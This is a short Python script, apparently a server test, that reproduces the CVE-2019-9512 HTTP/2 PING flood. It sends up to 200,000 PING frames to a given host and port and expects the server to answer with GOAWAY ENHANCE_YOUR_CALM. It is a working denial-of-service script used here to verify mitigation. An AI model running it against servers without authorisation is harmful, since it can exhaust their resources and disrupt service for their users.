#!/usr/bin/python3
"""PING flood (CVE-2019-9512) from a client that does not read.

usage: ping_flood.py HOST PORT [FRAMES=200000]
Expected: GOAWAY ENHANCE_YOUR_CALM once 1000 PING ACKs are owed.
"""
from h2raw import PING, Conn, args, frame

host, port, n = args("ping_flood.py HOST PORT [FRAMES]")
n = n or 200_000
c = Conn("ping_flood", host, port, timeout=2.0)
batch = frame(PING, 0, 0, b"floodme!") * 1000
sent = 0
while sent < n and c.send(batch, frames=1000):
    sent += 1000
c.wait_goaway()
c.finish()
